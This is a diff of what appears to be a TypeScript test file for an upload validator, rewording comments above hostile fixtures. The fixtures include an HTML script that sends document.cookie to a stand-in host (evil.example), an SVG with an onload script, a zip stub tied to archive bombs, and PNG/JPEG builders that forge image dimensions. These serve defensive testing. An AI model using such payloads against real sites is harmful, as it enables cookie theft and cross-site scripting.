@@ -8,7 +8,7 @@ const bytesOf = (...parts: (Buffer | string)[]) =>
   Buffer.concat(parts.map((part) => Buffer.from(part as string, "latin1")));
 const page = "<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>";
 const svg = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>";
-/** An archive of one file, as an office document, a program for Java or a bomb is one, too. */
+/** The container of office documents, Java programs and archive bombs. */
 const zip = bytesOf(
   `PK\u0003\u0004${"\0".repeat(26)}x`,
   "PK\u0001\u0002",
@@ -17,7 +17,7 @@ const zip = bytesOf(
 const zeros = "\0".repeat(1_100);
 const signature = png.subarray(0, 8);
 
-/** The same PNG that claims to be this large. */
+/** The PNG with a claimed size. */
 const pngOf = (width: number, height: number) => {
   const header = Buffer.from(png.subarray(16, 29));
   header.writeUInt32BE(width, 0);
@@ -25,7 +25,7 @@ const pngOf = (width: number, height: number) => {
   return bytesOf(signature, chunk("IHDR", header), png.subarray(33));
 };
 
-/** The same JPEG that claims to be this large. */
+/** The JPEG with a claimed size. */
 const jpegOf = (width: number, height: number) => {
   const sized = Buffer.from(jpeg);
   const frame = sized.indexOf(Buffer.from("ffc0", "hex"));
@@ -34,7 +34,7 @@ const jpegOf = (width: number, height: number) => {
   return sized;
 };
 
-/** Other formats, each sent under every name that is accepted. */
+/** Other formats, each sent with every accepted ending. */
 const foreign: [what: string, bytes: Buffer][] = [
   ["a page", bytesOf(page)],
   ["a page after a byte order mark", bytesOf("\xef\xbb\xbf", page)],
